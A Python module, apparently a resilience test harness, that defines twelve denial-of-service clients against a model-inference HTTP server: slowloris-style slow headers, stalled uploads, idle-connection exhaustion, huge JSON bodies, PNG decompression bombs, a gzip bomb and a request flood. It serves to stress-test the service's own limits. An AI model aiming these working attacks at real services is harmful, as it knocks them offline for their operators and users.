"""What each kind of hostile client does, in a process of its own, until it is ended."""

from __future__ import annotations

import http.client
import json
import select
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Mapping, Sequence
from functools import partial

Target = tuple[str, int]
Attack = Callable[[Target], None]

PATH = "/v2/models/digits/infer"
BODY_BYTES = 30_000_000
"""Of a body that is never whole, or of a large JSON text: a little below the default limit."""
_PAUSE_S = 0.05


def head(length: int, *further: str, path: str = PATH) -> bytes:
    """Returns the head of a POST with a body of so many bytes."""
    lines = (f"POST {path} HTTP/1.1", "Host: localhost", f"Content-Length: {length}", *further, "", "")
    return "\r\n".join(lines).encode()


def picture_request(picture: bytes, *further: str) -> bytes:
    """Returns a whole request with one picture."""
    return head(len(picture), "Content-Type: image/png", *further, path="/v1/classify/digits") + picture


def idle(target: Target) -> None:
    """Opens 100 connections and sends nothing; opens each again that is closed."""
    _hold(target, [b""] * 100)


def slow_headers(target: Target) -> None:
    """Opens 1,000 connections that send a byte of a header now and then."""
    _hold(target, [f"POST {PATH} HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".encode()] * 1000, drip=b"a")


def stalled_bodies(target: Target) -> None:
    """Opens 500 connections that begin a body and stop."""
    _hold(target, [head(7000) + b"x" * 100] * 500)


def hoard(target: Target) -> None:
    """Uploads 20 bodies up to their last bytes, which never come."""
    _hold(target, [head(BODY_BYTES) + b"x" * (BODY_BYTES - 3)] * 20)


def read_outs(target: Target) -> None:
    """Reads everything that there is to read, over and over, on six connections."""
    paths = ("/v1/batches?limit=10000", "/v1/status", "/metrics", "/v1/batches?limit=10000", "/v1/explain/1", "/")
    texts = [f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() for path in paths]
    _together([partial(_ask, target, text) for text in texts])


def unread_read_outs(target: Target) -> None:
    """Asks for 20 large read-outs on each of 100 connections, and reads nothing."""
    _hold(target, [b"GET /v1/batches?limit=10000 HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20] * 100)


def json_numbers(target: Target) -> None:
    """Sends JSON texts of 15 million numbers, one after the other, on two connections."""
    start = b'{"inputs":[{"name":"image","shape":[64],"datatype":"FP32","data":['
    text = start + b"1," * (BODY_BYTES // 2) + b"1]}]}"
    _together([lambda: _ask(target, head(len(text)) + text)] * 2)


def json_texts(target: Target) -> None:
    """Sends JSON texts of 25 MB of base64, one after the other."""
    data = ["A" * 400_000] * 64
    text = json.dumps({"inputs": [{"name": "image", "shape": [64], "datatype": "BYTES", "data": data}]}).encode()
    _ask(target, head(len(text)) + text)


def pixel_bombs(target: Target) -> None:
    """Sends pictures of 50 megapixels in 8 KB on four connections."""
    bomb = picture_request(one_colour_png(30_000, 1660))
    _together([lambda: _ask(target, bomb)] * 4)


def smaller_bombs(target: Target) -> None:
    """Sends pictures of 16 megapixels in 6 KB on eight connections."""
    bomb = picture_request(one_colour_png(4000, 3990))
    _together([lambda: _ask(target, bomb)] * 8)


def gzip_bombs(target: Target) -> None:
    """Sends 400 MB of zeros in 400 KB, one after the other."""
    packer = zlib.compressobj(9, wbits=31)
    packed = b"".join(packer.compress(bytes(10**6)) for _ in range(400)) + packer.flush()
    _ask(target, head(len(packed), "Content-Encoding: gzip") + packed)


def flood(target: Target) -> None:
    """Sends small valid requests on 48 connections, each as soon as the one before it is answered or refused."""
    request = picture_request(one_colour_png(28, 28))
    _together([lambda: _ask(target, request)] * 48)


ATTACKS: Mapping[str, Attack] = {
    "idle": idle,
    "slow-headers": slow_headers,
    "stalled-bodies": stalled_bodies,
    "hoard": hoard,
    "read-outs": read_outs,
    "unread-read-outs": unread_read_outs,
    "json-numbers": json_numbers,
    "json-texts": json_texts,
    "pixel-bombs": pixel_bombs,
    "smaller-bombs": smaller_bombs,
    "gzip-bombs": gzip_bombs,
    "flood": flood,
}


def one_colour_png(width: int, height: int) -> bytes:
    """Returns a white picture of one bit a pixel, which takes about a byte for each 8,000 pixels."""
    packer = zlib.compressobj(9)
    row = b"\0" + b"\xff" * ((width + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, content) for kind, content in chunks)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _hold(target: Target, sent: Sequence[bytes], drip: bytes = b"") -> None:
    """Keeps a connection open for each text; one that the daemon ends is opened again, with its text."""
    left: dict[socket.socket, memoryview] = {}
    waiting = list(sent)
    while True:
        while waiting:
            try:
                connection = socket.create_connection(target, timeout=5)
            except OSError:
                break
            connection.setblocking(False)
            left[connection] = memoryview(waiting.pop())
        for connection, text in list(left.items()):
            try:
                if text:
                    left[connection] = text[connection.send(text[:1_000_000]) :]
                elif drip:
                    connection.send(drip)
            except BlockingIOError:
                pass
            except OSError:
                _again(connection, left, waiting, sent)
        busy = any(left.values())
        _drop_ended(left, waiting, sent)
        time.sleep(0.001 if busy else _PAUSE_S)


def _drop_ended(left: dict[socket.socket, memoryview], waiting: list[bytes], sent: Sequence[bytes]) -> None:
    """Looks for connections that the daemon has ended, without reading what it answers otherwise."""
    poll = select.poll()
    by_number = {connection.fileno(): connection for connection in left}
    for number in by_number:
        poll.register(number, select.POLLRDHUP)
    for number, _ in poll.poll(0):
        _again(by_number[number], left, waiting, sent)


def _again(
    connection: socket.socket, left: dict[socket.socket, memoryview], waiting: list[bytes], sent: Sequence[bytes]
) -> None:
    connection.close()
    left.pop(connection, None)
    waiting.append(sent[0])


def _together(works: Sequence[Callable[[], None]]) -> None:
    threads = [threading.Thread(target=work, daemon=True) for work in works]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _ask(target: Target, request: bytes) -> None:
    """Sends a request over and over on one connection, and reads what comes."""
    while True:
        try:
            with socket.create_connection(target, timeout=20) as connection:
                while _answered(connection, request):
                    pass
        except OSError:
            time.sleep(_PAUSE_S)


def _answered(connection: socket.socket, request: bytes) -> bool:
    """Sends one request and reads its answer; returns whether the connection can be used again."""
    failed: list[OSError] = []

    def send() -> None:
        try:
            connection.sendall(request)
        except OSError as error:
            failed.append(error)

    # An early refusal comes while the request is still being sent.
    sender = threading.Thread(target=send, daemon=True)
    sender.start()
    response = http.client.HTTPResponse(connection)
    try:
        response.begin()
        while response.read(2**20):
            pass
        return not response.will_close and not failed
    except http.client.HTTPException:
        return False
    finally:
        response.close()
